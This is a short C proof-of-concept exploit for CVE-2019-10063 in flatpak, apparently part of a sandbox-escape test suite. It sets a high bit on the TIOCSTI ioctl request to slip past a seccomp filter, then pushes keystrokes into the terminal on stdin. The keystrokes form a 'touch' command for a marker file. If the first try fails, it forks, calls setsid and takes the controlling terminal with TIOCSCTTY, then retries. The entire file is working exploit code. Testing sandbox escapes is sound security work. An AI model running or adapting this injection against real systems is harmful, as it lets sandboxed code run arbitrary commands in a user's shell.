/* tiocsti-highbits: CVE-2019-10063 (flatpak): a seccomp rule comparing
 * the whole 64-bit ioctl request misses TIOCSTI with a high bit set, which
 * the kernel truncates to the 32-bit TIOCSTI.  Push keystrokes into the
 * terminal on stdin that way, taking it as the controlling terminal first
 * when the kernel asks for it. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include "targets.h"

#define TIOCSTI_HIGH (TIOCSTI | (1UL << 32))

static int push(const char *keys)
{
	for (; *keys; keys++)
		if (ioctl(0, TIOCSTI_HIGH, keys) < 0)
			return -1;
	return 0;
}

int main(int argc, char **argv)
{
	char keys[1200];
	pid_t pid;

	targets_load(argc, argv);
	snprintf(keys, sizeof(keys), "touch %s\n", target("T_MARKER"));
	if (push(keys) == 0)
		return 0;
	perror("TIOCSTI | 1 << 32");
	pid = fork();
	if (pid == 0) {
		if (setsid() < 0 || ioctl(0, TIOCSCTTY, 0) < 0)
			perror("taking the terminal");
		if (push(keys) < 0)
			perror("TIOCSTI | 1 << 32 as session leader");
		_exit(0);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
	return 0;
}
